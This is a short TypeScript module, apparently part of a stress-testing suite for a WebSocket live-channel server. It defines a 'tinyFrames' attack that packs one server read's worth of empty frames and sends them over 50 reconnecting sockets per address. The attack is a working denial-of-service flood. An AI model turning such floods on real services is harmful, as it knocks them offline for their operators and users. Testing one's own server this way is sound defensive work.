import type { Attack } from './attack.ts';
import { attackLiveChannel } from './live-attack.ts';
import { CONNECT } from './live-socket.ts';
import { frameOf } from './malformed/websocket-frame.ts';

/** What the server reads at once. */
const READ_BYTES = 64 * 1024;
const EMPTY = frameOf(Buffer.alloc(0));
const flood = Buffer.concat(Array.from({ length: Math.floor(READ_BYTES / EMPTY.length) }, () => EMPTY));

/** Connections send as many frames as fit into one read, and connect again when they are closed. */
export const tinyFrames: Attack = (options) =>
  attackLiveChannel(options, {
    socketsPerAddress: 50,
    use(socket) {
      socket.write(Buffer.concat([CONNECT, flood]));
    },
  });
